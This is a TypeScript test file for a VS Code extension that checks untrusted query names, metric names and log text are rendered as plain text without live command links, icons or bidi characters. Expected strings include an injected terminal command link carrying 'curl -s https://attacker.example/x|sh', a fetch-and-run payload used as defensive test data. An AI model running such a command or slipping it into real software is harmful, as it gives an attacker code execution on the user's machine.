import * as assert from 'node:assert/strict';
import { MAX_LABEL_LENGTH, label, plainLabel } from '../../../src/core/text/label';
import { lensTitle } from '../../../src/core/productionErrors/present';
import type { LineErrors } from '../../../src/core/productionErrors/aggregate';
import { fake, installVscodeFake } from './fakeVscode';
import { COMMAND_LINK, icons, links } from './vscodeSyntax';
import { asScopeId } from '../../../src/core/scope';

installVscodeFake();
/* eslint-disable @typescript-eslint/no-require-imports */
const { runSavedQuery } = require('../../../src/insights/run') as typeof import('../../../src/insights/run');
const { pickMetrics } = require('../../../src/metrics/pickers') as typeof import('../../../src/metrics/pickers');
const { codeLens, showPick, withNotificationProgress } = require('../../../src/platform/textSinks') as typeof import('../../../src/platform/textSinks');
/* eslint-enable @typescript-eslint/no-require-imports */

const NOTIFICATION = 15;
const everyText = () => [...fake.progress.flatMap((p) => [p.title ?? '', ...p.messages]), ...fake.picks.flatMap((p) => [p.title ?? '', ...p.items.flatMap((i) => [i.label, i.description ?? '', i.detail ?? ''])])];

/** No AWS here: the first call fails, after the progress notification was shown. */
const noAws = new Proxy({}, { get: () => () => { throw new Error('no AWS in this test'); } });

function insightsContext() {
  const services = { logs: noAws, session: { regions: async () => ({ regions: ['us-east-1'] }) }, log: { info() {}, warn() {}, error() {} } };
  return { services, diagnostics: { clear() {}, mark() {} }, workspaceState: { get: (_k: string, fallback: unknown) => fallback } } as never;
}

describe('text sinks: outside text in progress, quick picks, status bar and CodeLens', () => {
  beforeEach(() => {
    fake.progress.length = 0;
    fake.picks.length = 0;
    fake.shown.length = 0;
    fake.pick = undefined;
  });

  it('plainLabel splits links and icons, drops control and bidi characters, keeps one line and a cap', () => {
    const shown = plainLabel(`Latency ${COMMAND_LINK} $(zap) $(sync~spin)\n\x1b[31mERROR\u202e gnp.exe\r\n`);
    assert.deepEqual(links(shown), []);
    assert.deepEqual(icons(shown), []);
    assert.equal(shown, 'Latency [Show details] (command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20-s%20https%3A%2F%2Fattacker.example%2Fx%7Csh%5Cn%22%7D) $ (zap) $ (sync~spin) ERROR gnp.exe');
    assert.ok(plainLabel('x'.repeat(5000)).length <= MAX_LABEL_LENGTH);
  });

  it('a label keeps its own icons and neutralises the ones in the values it quotes', () => {
    const name = '$(zap) checkout';
    const shown = label`$(bell) ${name} · ${3}`;
    assert.deepEqual(icons(shown), ['$(bell)']);
    assert.equal(shown, '$(bell) $ (zap) checkout · 3');
  });

  for (const [source, name] of [
    ['a workspace .insights file', `Latency ${COMMAND_LINK}`],
    ['a dashboard log widget title', `Errors by endpoint ${COMMAND_LINK}`],
    ['a CloudWatch Logs query definition', `${COMMAND_LINK} p99`],
  ] as const) {
    it(`F2: a query name from ${source} forms no link in the progress notification of its run`, async () => {
      const query = { source: 'file' as const, name, text: 'fields @message | limit 5' };
      await runSavedQuery(insightsContext(), query, { logGroups: ['/aws/lambda/checkout'], range: '1h' });
      const notification = fake.progress.find((p) => p.location === NOTIFICATION);
      assert.ok(notification?.title, 'the run showed a progress notification');
      assert.match(notification.title, /^Logs Insights: /);
      assert.ok(notification.title.includes('[Show details] (command:workbench.action.terminal.sendSequence'), 'the name is shown as text');
      assert.deepEqual(everyText().flatMap(links), []);
      assert.deepEqual(fake.shown.flatMap((m) => links(m.message)), [], 'nor does the error notification after it');
    });
  }

  it('F2: a custom metric name forms no link in "Listing … dimensions" nor in the pickers, and goes to AWS unchanged', async () => {
    const metricName = `Checkout $(zap) ${COMMAND_LINK}`;
    const metrics = [{ namespace: 'Shop', metricName, dimensions: [{ name: 'Stage', value: 'prod' }] }];
    const api = { async *listMetricPages() { yield metrics; } } as never;
    fake.pick = (items) => items.find((i) => i.label !== 'Type a namespace…');
    const chosen = await pickMetrics(api, asScopeId('us-east-1'));
    assert.deepEqual(chosen?.map((c) => c.metricName), [metricName], 'the pick returns the name AWS knows');
    const titles = fake.progress.map((p) => p.title ?? '');
    assert.ok(titles.some((t) => t.startsWith('Listing Checkout $ (zap) [Show details] (command:')), titles.join('\n'));
    assert.deepEqual(everyText().flatMap(links), []);
    assert.deepEqual(everyText().flatMap(icons), []);
  });

  it('every progress.report message is made plain as well', async () => {
    await withNotificationProgress('Searching', async (progress) => progress.report({ message: `${COMMAND_LINK} $(zap)\u202e` }));
    assert.deepEqual(fake.progress[0].messages, ['[Show details] (command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20-s%20https%3A%2F%2Fattacker.example%2Fx%7Csh%5Cn%22%7D) $ (zap)']);
  });

  it('I5: `$(zap)` in log text shows no icon in a production-error CodeLens title', () => {
    const line = { file: '/w/src/pay.ts', line: 12, count: 3, onPath: 0, first: 0, last: Date.now(), kinds: [{ title: 'Error: $(zap) [x](command:evil) card declined', count: 3, logGroups: new Set<string>(), first: 0, last: 0 }], events: [] } as unknown as LineErrors;
    const lens = codeLens({} as never, lensTitle(line, '24h', new Date()), { command: 'opsLens.productionErrors.showOccurrences' }) as unknown as { command: { title: string } };
    assert.match(lens.command.title, /^⚠ 3 production errors \(24h\) · Error: \$ \(zap\) \[x\] \(command:evil\) card declined/);
    assert.deepEqual(icons(lens.command.title), []);
  });

  it('I5: `$(zap)` in a quick pick description shows no icon, and the picked item is the caller\'s own', async () => {
    const items = [{ label: 'src/pay.ts:12', description: '3× Error: $(zap) declined', detail: 'on\u202ethe path', line: 12 }];
    fake.pick = (shown) => shown[0];
    const picked = await showPick(items, { title: 'Production errors' });
    assert.equal(picked, items[0]);
    assert.deepEqual(fake.picks[0].items.map((i) => [i.description, i.detail]), [['3× Error: $ (zap) declined', 'onthe path']]);
  });
});
